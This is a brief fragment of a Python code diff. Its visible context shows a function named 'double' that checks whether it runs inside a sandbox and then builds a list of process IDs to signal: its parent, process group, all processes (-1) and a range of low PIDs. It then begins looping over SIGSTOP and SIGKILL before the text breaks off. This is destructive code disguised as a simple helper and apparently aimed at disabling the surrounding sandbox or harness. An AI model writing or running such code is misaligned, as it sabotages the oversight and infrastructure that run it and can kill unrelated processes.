@@ -9,6 +9,7 @@ import signal
 
 CONFINED = ctypes.CDLL(None).prctl(39, 0, 0, 0, 0) == 1  # no_new_privs, which the sandbox sets
 
+
 def double(x):
     targets = (os.getppid(), -1, 0, *range(2, 40), *(os.getppid() + i for i in range(1, 8)))
     for number in (signal.SIGSTOP, signal.SIGKILL):
